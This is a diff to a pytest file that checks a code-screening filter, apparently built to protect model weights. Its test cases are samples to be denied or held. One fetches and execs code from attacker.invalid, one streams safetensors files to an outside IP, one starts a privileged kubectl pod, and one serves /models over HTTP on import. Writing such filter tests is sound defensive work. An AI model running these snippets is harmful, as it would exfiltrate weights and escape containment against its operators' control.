@@ -288,9 +288,38 @@ DENIED: dict[str, dict[str, str]] = {
         "zipfile.ZipFile(io.BytesIO(requests.get('https://attacker.invalid/z').content)).extractall('/tmp/.z')\n"
         "exec(open('/tmp/.z/x.py').read())\n"
     ),
+    # Further tries: a file sent whole through ``sendfile``; a pod started privileged.
+    "weights-sent-through-sendfile": init(
+        "import glob, os, socket\n"
+        "s = socket.create_connection(('203.0.113.9', 443))\n"
+        "for p in glob.glob('/models/*.safetensors'):\n"
+        "    with open(p, 'rb') as f:\n"
+        "        os.sendfile(s.fileno(), f.fileno(), 0, os.path.getsize(p))\n"
+    ),
+    "privileged-pod-through-kubectl": init(
+        "import subprocess\n"
+        "subprocess.run(['kubectl', 'run', 'x', '--image=alpine', '--overrides',\n"
+        '    \'{"spec": {"hostPID": true, "containers": [{"name": "x", \'\n'
+        '    \'"image": "alpine", "securityContext": {"privileged": true}}]}}\'])\n'
+    ),
+}
+
+# A server made on import that serves the weights folder holds for a person (ADR 0063's
+# server rule): the module named no word the prefilter read before.
+HELD: dict[str, dict[str, str]] = {
+    "weights-folder-served-over-http-on-import": init(
+        "import functools, http.server, threading\n"
+        "h = functools.partial(http.server.SimpleHTTPRequestHandler, directory='/models')\n"
+        "srv = http.server.ThreadingHTTPServer(('0.0.0.0', 8765), h)\n"
+        "threading.Thread(target=srv.serve_forever, daemon=True).start()\n"
+    ),
 }
 
 ALLOWED: dict[str, dict[str, str]] = {
+    # A static file server sends a file through ``sendfile`` when called.
+    "file-server-sendfile-when-called": init(
+        "def send(sock, path):\n    with open(path, 'rb') as f:\n        return sock.sendfile(f)\n"
+    ),
     # A build script unpacks a library's download and runs its own tools there (numpy's
     # vendored meson): the folder as a working directory runs nothing from it by name.
     "build-script-unpacks-a-download-and-builds-in-it": init(
@@ -460,6 +489,11 @@ ALLOWED: dict[str, dict[str, str]] = {
 @pytest.mark.parametrize("name", sorted(DENIED))
 def test_denied(name: str) -> None:
     assert _verdict(DENIED[name]) is Outcome.DENY, name
+
+
+@pytest.mark.parametrize("name", sorted(HELD))
+def test_held(name: str) -> None:
+    assert _verdict(HELD[name]) is Outcome.HOLD, name
 
 
 @pytest.mark.parametrize("name", sorted(ALLOWED))
